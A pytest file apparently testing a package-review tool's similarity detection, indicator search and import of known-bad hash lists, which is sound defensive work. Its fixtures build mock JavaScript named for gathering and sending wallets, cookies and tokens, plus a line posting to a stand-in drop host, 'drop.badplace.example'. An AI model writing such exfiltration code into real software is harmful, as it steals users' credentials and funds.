"""`assay similar` and `assay search` as a reviewer runs them on the day a new indicator is published."""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from app.desk import Desk
from app.settings import Settings

pytestmark = [pytest.mark.needs("bwrap", "libarchive", "libmagic")]

CODE = "\n".join(
    f"export async function {verb}{noun}Entry(account, {noun}) {{\n"
    f"  const {noun}List = await {verb}Everything(account.{noun}, {{ depth: {number} }});\n"
    f"  return {noun}List.map((item) => item.{verb}('{noun}')).join('{verb}-{noun}');\n}}"
    for number, (verb, noun) in enumerate(
        (v, n) for v in ("gather", "encode", "send") for n in ("wallet", "cookie", "token")
    )
)
ADDRESS = "https://drop.badplace.example/in"


def package(folder: Path, name: str, files: Mapping[str, str]) -> Path:
    path = folder / f"{name}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for inside, text in files.items():
            archive.writestr(inside, text)
    return path


def findings(done) -> list[tuple[str, str]]:
    report = json.loads(done.stdout)
    return [(f["rule"], f["severity"]) for f in report["findings"] if f["check"] == "similarity"]


def test_from_a_rejection_to_the_search(assay, tmp_path: Path) -> None:
    first = package(tmp_path, "first", {"src/main.js": f"{CODE}\npost('{ADDRESS}?k=1');\n"})
    done = assay("check", first, "--only", "similarity", "--only", "indicators", "--format", "json")
    assert done.returncode == 0, done.stderr.decode()
    assert not findings(done)
    with Desk.open(settings=Settings()) as desk:
        desk.decide(1, "reject", "It sends wallets away: see src/main.js.")

    moved = CODE.replace("wallet", "purse")
    second = package(tmp_path, "second", {"lib/x.js": f"{moved}\npost('https://other.example/');\n", "a.css": "a{}"})
    done = assay("check", second, "--only", "similarity", "--format", "json")
    assert done.returncode == 1, done.stderr.decode()
    assert findings(done) == [("variant-of-rejected", "high")]

    done = assay("search", "DROP.badplace.example")
    assert done.returncode == 0, done.stderr.decode()
    text = done.stdout.decode()
    assert "address   first.zip (rejected)" in text
    assert ADDRESS in text and "k=1" not in text
    assert not done.stderr, "no progress for a pipe"

    done = assay("search", "GATHERWALLETENTRY", "-i", "--format", "json")
    document = json.loads(done.stdout)
    assert document["schema"] == "assay-search/1"
    assert [(h["kind"], h["title"], h["decision"], h["path"], h["line"]) for h in document["hits"]] == [
        ("text", "first.zip", "rejected", "src/main.js", 1)
    ]
    assert "gatherwalletEntry" in document["hits"][0]["text"]
    assert document["not_searched"] == []

    sha256 = hashlib.sha256(second.read_bytes()).hexdigest()
    assert b"second.zip" in assay("search", sha256).stdout
    assert assay("search", "nothing-like-this-anywhere").returncode == 1
    for wrong in (["search"], ["search", "ab"], ["search", "abc", "--limit", "0"], ["search", "abc", "--limit", "x"]):
        done = assay(*wrong)
        assert done.returncode == 2
        assert done.stderr.strip()


def test_a_list_is_imported_and_alarms(assay, tmp_path: Path) -> None:
    listed = tmp_path / "published.csv"
    sha256 = hashlib.sha256(CODE.encode()).hexdigest()
    listed.write_text(f"name,verdict,sha256,date\nwallet grabber,bad,{sha256},2026-11-01\nbroken,bad,xyz,\n")
    done = assay("similar", "import", listed)
    assert done.returncode == 1
    assert b"line 3" in done.stderr
    assert b"1 entry of the list published was kept" in done.stdout
    done = assay("check", package(tmp_path, "app", {"in/a.js": CODE}), "--only", "similarity", "--format", "json")
    assert findings(done) == [("known-bad-file", "critical")]
    assert b"published: 1 entry" in assay("similar", "list").stdout
    assert assay("similar", "remove", "published").returncode == 0
    done = assay("similar", "remove", "published")
    assert done.returncode == 2
    assert b"there is no list published" in done.stderr
    assert assay("similar", "import", tmp_path / "absent.csv").returncode == 2
    assert assay("similar", "export", tmp_path / "out.jsonl").returncode == 0
